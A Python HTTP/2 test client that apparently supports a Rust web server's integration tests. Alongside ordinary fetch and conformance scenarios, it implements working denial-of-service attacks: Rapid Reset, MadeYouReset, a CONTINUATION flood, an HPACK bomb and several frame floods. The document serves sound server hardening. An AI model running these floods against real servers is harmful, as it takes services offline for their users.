#!/usr/bin/env python3
"""Scripted HTTP/2 client for shardhttpd's integration tests (tests/it/http2*.rs).

Two layers:
  * `fetch` drives the `h2` package (PyPI), an independent, well-tested client
    state machine, for ordinary requests: many streams on one connection,
    every response returned whole (status, headers, body) for the Rust test
    to compare with HTTP/1.1.
  * every attack scenario writes frames itself (with `hpack` for header
    blocks, or by hand where the attack is a malformed or hostile block), so
    it can do what a conforming client never would, and reports what the
    server did on the wire.

The frame layer is h2wire.py, beside this file. Each run prints one JSON
object on stdout; the Rust test asserts on it. The
script asserts nothing about the server itself, except that it speaks h2.
Usage: h2probe.py SCENARIO --port P [--tls --ca FILE] [scenario options]
"""

import argparse
import json
import select
import socket
import struct
import sys
import time

import h2.config
import h2.connection
import h2.events
import h2.settings

from h2wire import (CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, MAX_WINDOW,
                    PING, PREFACE, PRIORITY, RST_STREAM, S_HEADER_TABLE_SIZE,
                    S_INITIAL_WINDOW_SIZE, S_MAX_CONCURRENT_STREAMS, S_MAX_FRAME_SIZE,
                    S_ENABLE_PUSH, SETTINGS, WINDOW_UPDATE, Wire, connect, emit, err_name,
                    frame, hpack_int, literal_no_index, settings_frame)

# ---------------------------------------------------------------------------
# fetch: ordinary requests with the h2 package
# ---------------------------------------------------------------------------

def scenario_fetch(args):
    """Sends every request of a JSON list (read from --requests FILE or stdin)
    on one connection, all streams open at once, and returns each response
    whole. Entries: {"path": "/x", "method": "GET", "headers": [[k, v], ...]}."""
    spec = json.load(open(args.requests) if args.requests else sys.stdin)
    sock = connect(args)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding=None))
    conn.initiate_connection()
    conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: MAX_WINDOW,
                          h2.settings.SettingCodes.ENABLE_PUSH: 0})
    conn.increment_flow_control_window(MAX_WINDOW - 65535)
    sock.sendall(conn.data_to_send())
    # The server's SETTINGS first: its stream limit bounds what is opened.
    max_open = None
    deadline = time.monotonic() + args.timeout
    while max_open is None and time.monotonic() < deadline:
        r, _, _ = select.select([sock], [], [], 0.2)
        if not r:
            continue
        chunk = sock.recv(1 << 20)
        if not chunk:
            break
        for ev in conn.receive_data(chunk):
            if isinstance(ev, h2.events.RemoteSettingsChanged):
                max_open = conn.remote_settings.max_concurrent_streams
        sock.sendall(conn.data_to_send())
    results = {}
    order = []
    queue = list(spec)
    done = set()
    goaway = None
    while (queue or len(done) < len(order)) and time.monotonic() < deadline:
        while queue and len(order) - len(done) < min(max_open or 100, args.concurrency):
            req = queue.pop(0)
            sid = conn.get_next_available_stream_id()
            headers = [(":method", req.get("method", "GET")), (":scheme", "https" if args.tls else "http"),
                       (":authority", req.get("authority", "localhost")), (":path", req["path"])]
            headers += [(k.lower(), v) for k, v in req.get("headers", [])]
            conn.send_headers(sid, headers, end_stream=True)
            results[sid] = {"path": req["path"], "headers": [], "body": bytearray(), "reset": None}
            order.append(sid)
        out = conn.data_to_send()
        if out:
            sock.sendall(out)
        r, _, _ = select.select([sock], [], [], 0.2)
        if not r:
            continue
        chunk = sock.recv(1 << 20)
        if not chunk:
            break
        for ev in conn.receive_data(chunk):
            if isinstance(ev, (h2.events.ResponseReceived, h2.events.TrailersReceived,
                               h2.events.InformationalResponseReceived)):
                results[ev.stream_id]["headers"] += [[k.decode(), v.decode("latin-1")] for k, v in ev.headers]
            elif isinstance(ev, h2.events.DataReceived):
                results[ev.stream_id]["body"] += ev.data
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded):
                done.add(ev.stream_id)
            elif isinstance(ev, h2.events.StreamReset):
                results[ev.stream_id]["reset"] = err_name(ev.error_code)
                done.add(ev.stream_id)
            elif isinstance(ev, h2.events.ConnectionTerminated):
                goaway = {"last_stream_id": ev.last_stream_id, "error": err_name(ev.error_code)}
        out = conn.data_to_send()
        if out:
            sock.sendall(out)
        if goaway:
            break
    responses = []
    for sid in order:
        r = results[sid]
        status = next((int(v) for k, v in r["headers"] if k == ":status"), None)
        responses.append({
            "stream": sid, "path": r["path"], "status": status, "complete": sid in done,
            "reset": r["reset"],
            "headers": [[k, v] for k, v in r["headers"] if not k.startswith(":")],
            "body_hex": bytes(r["body"]).hex(),
        })
    emit({"responses": responses, "unsent": len(queue), "goaway": goaway,
          "max_concurrent_streams": max_open})


# ---------------------------------------------------------------------------
# Attack and limit scenarios (raw frames)
# ---------------------------------------------------------------------------

def scenario_rapid_reset(args):
    """CVE-2023-44487: opens streams and cancels each at once, in batches,
    faster than they can be served; records whether and when the server
    answered with GOAWAY."""
    w = Wire(args)
    w.wait_settings()
    sid = 1
    opened = 0
    while opened < args.count and not w.closed:
        batch = b""
        for _ in range(min(args.batch, args.count - opened)):
            batch += w.request(sid, args.path) + frame(RST_STREAM, 0, sid, struct.pack(">I", 8))
            sid += 2
            opened += 1
        if not w.send(batch):
            break
        w.read_some(0)
        if w.goaways:
            break
    w.pump(3, lambda: w.closed)
    # The server must still serve: a fresh connection and one request.
    emit(w.summary(streams_opened=opened, after=probe_after(args)))


def scenario_made_you_reset(args):
    """CVE-2025-8671: streams the server itself resets because of a client
    error (here WINDOW_UPDATE with increment 0 on an open stream, a stream
    error by RFC 9113 §6.9) count toward the same budget as client resets."""
    w = Wire(args, settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    w.wait_settings()
    sid = 1
    opened = 0
    while opened < args.count and not w.closed:
        batch = b""
        for _ in range(min(args.batch, args.count - opened)):
            batch += w.request(sid, args.path) + frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0))
            sid += 2
            opened += 1
        if not w.send(batch):
            break
        w.read_some(0)
        if w.goaways:
            break
    w.pump(3, lambda: w.closed)
    emit(w.summary(streams_opened=opened, after=probe_after(args)))


def scenario_continuation_flood(args):
    """CVE-2024-27316 and relatives: one HEADERS without END_HEADERS, then
    CONTINUATION frames that never end the block, each adding a header;
    records how much the server took before answering or closing."""
    w = Wire(args)
    w.wait_settings()
    start = w.encoder.encode([(":method", "GET"), (":scheme", "https"),
                              (":authority", "localhost"), (":path", args.path)])
    w.send(frame(HEADERS, END_STREAM, 1, start))
    sent_frames = 0
    sent_bytes = 0
    stalled = False
    w.sock.setblocking(False)
    i = 0
    while sent_frames < args.count and not w.closed:
        chunk = b""
        for _ in range(min(args.batch, args.count - sent_frames)):
            payload = literal_no_index(b"x-flood-%d" % i, b"v" * args.size)
            chunk += frame(CONTINUATION, 0, 1, payload)
            i += 1
        n, stalled = w.send_nonblocking(chunk, 2.0)
        sent_bytes += n
        sent_frames += n // (9 + len(payload))
        if stalled or n < len(chunk):
            break
        w.read_some(0)
        if w.goaways or w.closed:
            break
    w.sock.setblocking(True)
    w.pump(5, lambda: w.closed)
    emit(w.summary(frames_sent=sent_frames, bytes_sent=sent_bytes, stalled=stalled,
                   after=probe_after(args)))


def scenario_hpack_bomb(args):
    """An HPACK bomb: one large header put in the server's dynamic table,
    then header blocks that reference it thousands of times (one byte each
    on the wire, the whole value each when decoded)."""
    w = Wire(args)
    w.wait_settings()
    table = w.server_settings.get(S_HEADER_TABLE_SIZE, 4096)
    name = b"x-bomb"
    size = max(0, min(args.size, table - 32 - len(name)))
    if size < 64:
        emit(w.summary(skipped="server decoder table of %d bytes holds no bomb" % table))
        return
    base = w.encoder.encode([(":method", "GET"), (":scheme", "https"),
                             (":authority", "localhost"), (":path", args.path)])
    # Stream 1: the literal with incremental indexing (dynamic index 62).
    insert = b"\x40" + hpack_int(len(name), 7, 0) + name + hpack_int(size, 7, 0) + b"b" * size
    w.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, base + insert))
    # Stream 3: the reference repeated, split over CONTINUATION frames of
    # the server's frame size.
    refs = b"\xbe" * args.count  # indexed field, index 62
    block = base + refs
    max_frame = w.server_settings.get(S_MAX_FRAME_SIZE, 16384)
    pieces = [block[i:i + max_frame] for i in range(0, len(block), max_frame)]
    out = b""
    for k, piece in enumerate(pieces):
        flags = (END_HEADERS if k == len(pieces) - 1 else 0)
        if k == 0:
            out += frame(HEADERS, flags | END_STREAM, 3, piece)
        else:
            out += frame(CONTINUATION, flags, 3, piece)
    w.send(out)
    w.pump(5, lambda: w.closed or 3 in w.ended)
    emit(w.summary(value_size=size, references=args.count, decoded_bytes=size * args.count,
                   wire_bytes=len(block), after=probe_after(args)))


def scenario_flood(args):
    """Floods of frames that cost the server work but not the client:
    SETTINGS and PING (each asks for an ACK), empty DATA, PRIORITY, while
    the client reads nothing."""
    w = Wire(args)
    w.wait_settings()
    w.answer_pings = False
    if args.kind == "settings":
        one = settings_frame([(S_ENABLE_PUSH, 0)])
    elif args.kind == "ping":
        one = frame(PING, 0, 0, b"floodflo")
    elif args.kind == "empty-data":
        # A request whose body never ends: a POST (the method's answer does
        # not matter), then zero-length DATA frames on it.
        w.send(w.request(1, args.path, end_stream=False, method="POST"))
        one = frame(DATA, 0, 1, b"")
    elif args.kind == "priority":
        one = None
    elif args.kind == "window-update":
        one = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1))
    else:
        raise SystemExit("unknown flood kind " + args.kind)
    w.sock.setblocking(False)
    sent = 0
    stalled = False
    k = 0
    while sent < args.count and not w.closed:
        n_frames = min(args.batch, args.count - sent)
        if one is None:
            chunk = b"".join(frame(PRIORITY, 0, 2 * ((k + j) % 100000) + 101,
                                   struct.pack(">IB", 2 * ((k + j + 1) % 100000) + 101, 16))
                             for j in range(n_frames))
            k += n_frames
        else:
            chunk = one * n_frames
        n, stalled = w.send_nonblocking(chunk, 2.0)
        sent += n // (len(chunk) // n_frames)
        if stalled or n < len(chunk):
            break
        if args.read_while:
            w.read_some(0)
    w.sock.setblocking(True)
    w.pump(5, lambda: w.closed)
    emit(w.summary(kind=args.kind, frames_sent=sent, stalled=stalled, after=probe_after(args)))


def scenario_zero_window(args):
    """A client that asks for a file and never opens its window: initial
    stream window 0, no WINDOW_UPDATE. Times how long until the server
    closes."""
    w = Wire(args, settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    w.auto_window = False
    w.wait_settings()
    start = time.monotonic()
    w.send(w.request(1, args.path))
    w.pump(args.wait, lambda: w.closed)
    took = round(time.monotonic() - start, 3) if w.closed else None
    emit(w.summary(closed_after=took, data_bytes=len(w.data.get(1, b"")),
                   status=w.status(1)))


def scenario_max_streams(args):
    """Opens more streams than the server allows at once: windows at 0 so
    none can finish meanwhile. Then opens the windows and collects every
    stream's fate: answered whole, or reset (and with what)."""
    w = Wire(args, settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    w.auto_window = False
    w.wait_settings()
    limit = w.server_settings.get(S_MAX_CONCURRENT_STREAMS)
    total = (limit or 100) + args.extra
    out = b""
    for i in range(total):
        out += w.request(2 * i + 1, args.path)
    w.send(out)
    w.pump(2, lambda: len(w.resets) >= args.extra)
    refused_first = dict(w.resets)
    # Open every window: the admitted streams finish.
    w.auto_window = True
    opens = frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - 65535))
    opens += settings_frame([(S_INITIAL_WINDOW_SIZE, MAX_WINDOW)])
    w.send(opens)
    streams = [2 * i + 1 for i in range(total)]
    w.pump(args.wait, lambda: all(s in w.ended for s in streams))
    complete = [s for s in streams if s in w.ended and s not in w.resets]
    emit(w.summary(limit=limit, opened=total, refused_before_windows=refused_first,
                   complete=complete, sha256=w.digests(complete)))


def scenario_stall_headers(args):
    """A header block that never ends: HEADERS without END_HEADERS, then
    silence. Times how long until the server closes."""
    w = Wire(args)
    w.wait_settings()
    start = time.monotonic()
    block = w.encoder.encode([(":method", "GET"), (":scheme", "https"),
                              (":authority", "localhost"), (":path", args.path)])
    w.send(frame(HEADERS, END_STREAM, 1, block))
    w.pump(args.wait, lambda: w.closed)
    took = round(time.monotonic() - start, 3) if w.closed else None
    emit(w.summary(closed_after=took))


def scenario_priority(args):
    """RFC 9218: two streams for --path, the first at urgency 7, the second
    at urgency 0, given by the `priority` header (--kind header) or by a
    PRIORITY_UPDATE frame after both are open at the default urgency
    (--kind update). Stream windows start at 0 so nothing flows until both
    are known; then every window opens and the order in which the streams
    end is recorded."""
    w = Wire(args, settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    w.auto_window = False
    w.wait_settings()
    if args.kind == "header":
        out = (w.request(1, args.path, extra=[("priority", "u=7")])
               + w.request(3, args.path, extra=[("priority", "u=0")]))
    else:
        out = w.request(1, args.path) + w.request(3, args.path)
        # PRIORITY_UPDATE (type 0x10) on stream 0: prioritized stream id,
        # then the Priority Field Value.
        for sid, value in ((1, b"u=7"), (3, b"u=0")):
            out += frame(0x10, 0, 0, struct.pack(">I", sid) + value)
    w.send(out)
    w.pump(3, lambda: 1 in w.headers and 3 in w.headers)
    w.auto_window = True
    w.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - 65535))
           + settings_frame([(S_INITIAL_WINDOW_SIZE, MAX_WINDOW)]))
    w.pump(args.wait, lambda: 1 in w.ended and 3 in w.ended)
    # Which stream's DATA came first after the windows opened.
    first_data = next((f[2] for f in w.frames if f[0] == DATA and f[2] in (1, 3)), None)
    emit(w.summary(end_order=w.end_order, first_data=first_data, sha256=w.digests([1, 3])))


def scenario_hold(args):
    """Opens --count h2 connections, one GET for --path answered on each,
    says `{"ready": ...}`, and keeps them all open, idle, until stdin
    closes; then checks each still answers a second GET."""
    wires = []
    for _ in range(args.count):
        w = Wire(args)
        w.wait_settings()
        w.send(w.request(1, args.path))
        w.pump(5, lambda: 1 in w.ended)
        wires.append(w)
    ok = sum(1 for w in wires if w.status(1) == 200)
    emit({"ready": True, "opened": len(wires), "answered": ok})
    sys.stdin.read()
    for w in wires:
        w.send(w.request(3, args.path))
    again = 0
    for w in wires:
        w.pump(5, lambda: 3 in w.ended)
        again += w.status(3) == 200
    emit({"answered_again": again, "closed": sum(1 for w in wires if w.closed)})


def scenario_get(args):
    """One GET for --path: the server's SETTINGS, the status and the body's
    length and digest."""
    w = Wire(args)
    w.wait_settings()
    w.send(w.request(1, args.path))
    w.pump(args.wait, lambda: 1 in w.ended)
    emit(w.summary(status=w.status(1), length=len(w.data.get(1, b"")), sha256=w.digests([1])["1"]))


def scenario_idle(args):
    """One request, then silence: times how long until the server closes,
    and what it says first."""
    w = Wire(args)
    w.wait_settings()
    w.send(w.request(1, args.path))
    w.pump(5, lambda: 1 in w.ended)
    start = time.monotonic()
    w.pump(args.wait, lambda: w.closed)
    took = round(time.monotonic() - start, 3) if w.closed else None
    emit(w.summary(closed_after=took, status=w.status(1)))


def scenario_drain(args):
    """Streams in flight when the server is told to stop: opens --count
    streams for --path with stream windows at 0 (so none can finish), says
    `ready` on stdout, and waits for the server's GOAWAY. Then opens one more
    stream past the GOAWAY, opens every window, and collects what
    completes."""
    w = Wire(args, settings=[(S_INITIAL_WINDOW_SIZE, 0)])
    w.auto_window = False
    w.wait_settings()
    out = b""
    streams = [2 * i + 1 for i in range(args.count)]
    for s in streams:
        out += w.request(s, args.path)
    w.send(out)
    # Every stream has its response head before the signal, so each is
    # provably in flight (the server has processed it).
    w.pump(5, lambda: all(s in w.headers for s in streams))
    emit({"ready": True, "heads": len([s for s in streams if s in w.headers])})
    # The final GOAWAY: a server may first send one naming 2^31-1 (RFC 9113
    # §6.8), under which a new stream is still legitimately taken.
    w.pump(args.wait, lambda: any(g[0] != MAX_WINDOW for g in w.goaways))
    got_goaway = bool(w.goaways)
    late = streams[-1] + 2
    if any(g[0] != MAX_WINDOW for g in w.goaways):
        w.send(w.request(late, args.path))
    w.auto_window = True
    w.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - 65535))
           + settings_frame([(S_INITIAL_WINDOW_SIZE, MAX_WINDOW)]))
    w.pump(args.wait, lambda: w.closed)
    complete = [s for s in streams if s in w.ended and s not in w.resets]
    emit(w.summary(goaway_seen=got_goaway, streams=streams, late_stream=late,
                   late_status=w.status(late), complete=complete,
                   sha256=w.digests(streams)))


def scenario_reload(args):
    """A download that a reload cuts in two: stream 1 for --path with
    stream windows of --size bytes, so that much of the body arrives and
    the rest waits; says `{"ready": ...}`, then waits until stdin closes
    (the test replaces the file and reloads meanwhile). Then stream 3 for
    the same path (the new version, on the same connection), every window
    opened, and both bodies collected."""
    w = Wire(args, settings=[(S_INITIAL_WINDOW_SIZE, args.size)])
    w.auto_window = False
    w.wait_settings()
    w.send(w.request(1, args.path))
    w.pump(5, lambda: len(w.data.get(1, b"")) >= args.size)
    emit({"ready": True, "status": w.status(1), "received": len(w.data.get(1, b""))})
    sys.stdin.read()
    w.send(w.request(3, args.path))
    w.pump(5, lambda: len(w.data.get(3, b"")) >= args.size)
    early = {"1": len(w.data.get(1, b"")), "3": len(w.data.get(3, b""))}
    w.auto_window = True
    w.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", MAX_WINDOW - 65535))
           + settings_frame([(S_INITIAL_WINDOW_SIZE, MAX_WINDOW)]))
    w.pump(args.wait, lambda: 1 in w.ended and 3 in w.ended)
    emit(w.summary(before_windows=early, ended=sorted(w.ended),
                   lengths={str(s): len(w.data.get(s, b"")) for s in (1, 3)},
                   sha256=w.digests([1, 3])))


def scenario_small_windows(args):
    """--count streams for --path at once, with stream windows of --size
    bytes and every DATA frame's bytes given back as it comes: the bodies
    arrive interleaved, in frames of at most --size bytes."""
    w = Wire(args, settings=[(S_INITIAL_WINDOW_SIZE, args.size)])
    w.wait_settings()
    streams = [2 * i + 1 for i in range(args.count)]
    w.send(b"".join(w.request(s, args.path) for s in streams))
    w.pump(args.wait, lambda: all(s in w.ended for s in streams))
    data = [len(f[3]) for f in w.frames if f[0] == DATA]
    emit(w.summary(ended=sorted(w.ended), data_frames=len(data), largest_data=max(data or [0]),
                   lengths={str(s): len(w.data.get(s, b"")) for s in streams},
                   sha256=w.digests(streams)))


def scenario_preface(args):
    """What a cleartext listener does with the client preface: the bytes it
    answers with (first 200) and whether it then closes."""
    sock = connect(args)
    sock.sendall(PREFACE + settings_frame([]))
    sock.settimeout(3)
    got = b""
    closed = False
    try:
        while len(got) < 4096:
            chunk = sock.recv(4096)
            if not chunk:
                closed = True
                break
            got += chunk
    except socket.timeout:
        pass
    except (ConnectionResetError, OSError):
        closed = True
    emit({"reply": got[:200].decode("latin-1"), "reply_len": len(got), "closed": closed,
          "h2_settings_first": len(got) >= 9 and got[3] == SETTINGS})


def scenario_stream_ids(args):
    """A new stream whose id does not exceed an earlier one (RFC 9113
    §5.1.1): a GET on stream 5, answered, then HEADERS on stream 3
    (--kind decreasing) or on 5 again (--kind reused). Reports how the
    server ends the connection."""
    w = Wire(args)
    w.wait_settings()
    w.send(w.request(5, args.path))
    w.pump(5, lambda: 5 in w.ended)
    again = 3 if args.kind == "decreasing" else 5
    w.send(w.request(again, args.path))
    w.pump(args.wait, lambda: w.closed)
    emit(w.summary(status=w.status(5), again=again))


def scenario_connect(args):
    """RFC 9113 §8.5: a CONNECT with `:authority` alone (no `:scheme`, no
    `:path`) on stream 1, left open as a tunnel's stream would be, then a
    GET for --path on stream 3. Reports the CONNECT's answer (its fields,
    any reset) and whether the connection still serves."""
    w = Wire(args)
    w.wait_settings()
    block = w.encoder.encode([(":method", "CONNECT"), (":authority", "localhost:443")])
    w.send(frame(HEADERS, END_HEADERS, 1, block))
    w.pump(5, lambda: 1 in w.ended)
    w.send(w.request(3, args.path))
    w.pump(5, lambda: 3 in w.ended)
    fields = [[k, v] for block in w.headers.get(1, []) for k, v in block]
    emit(w.summary(status=w.status(1), fields=fields, body=bytes(w.data.get(1, b"")).decode("latin-1"),
                   then=w.status(3)))


def probe_after(args):
    """After an attack: does a fresh connection still get a 200 for
    --path? (The server survived and serves others.)"""
    try:
        w = Wire(args)
        w.wait_settings()
        w.send(w.request(1, args.path))
        w.pump(5, lambda: 1 in w.ended)
        status = w.status(1)
        w.sock.close()
        return status
    except OSError as e:
        return "error: %s" % e


SCENARIOS = {
    "fetch": scenario_fetch,
    "rapid-reset": scenario_rapid_reset,
    "made-you-reset": scenario_made_you_reset,
    "continuation-flood": scenario_continuation_flood,
    "hpack-bomb": scenario_hpack_bomb,
    "flood": scenario_flood,
    "zero-window": scenario_zero_window,
    "max-streams": scenario_max_streams,
    "get": scenario_get,
    "stall-headers": scenario_stall_headers,
    "priority": scenario_priority,
    "hold": scenario_hold,
    "idle": scenario_idle,
    "drain": scenario_drain,
    "reload": scenario_reload,
    "small-windows": scenario_small_windows,
    "preface": scenario_preface,
    "stream-ids": scenario_stream_ids,
    "connect": scenario_connect,
}


def main():
    p = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    p.add_argument("scenario", choices=sorted(SCENARIOS))
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--tls", action="store_true")
    p.add_argument("--ca")
    p.add_argument("--sni", default="localhost")
    p.add_argument("--offer-h1", action="store_true", help="offer http/1.1 after h2 in ALPN")
    p.add_argument("--path", default="/index.html")
    p.add_argument("--count", type=int, default=1000)
    p.add_argument("--batch", type=int, default=100)
    p.add_argument("--size", type=int, default=100)
    p.add_argument("--extra", type=int, default=10)
    p.add_argument("--kind", default="settings")
    p.add_argument("--read-while", action="store_true")
    p.add_argument("--wait", type=float, default=10)
    p.add_argument("--timeout", type=float, default=30)
    p.add_argument("--concurrency", type=int, default=1000)
    p.add_argument("--requests")
    args = p.parse_args()
    SCENARIOS[args.scenario](args)


if __name__ == "__main__":
    main()
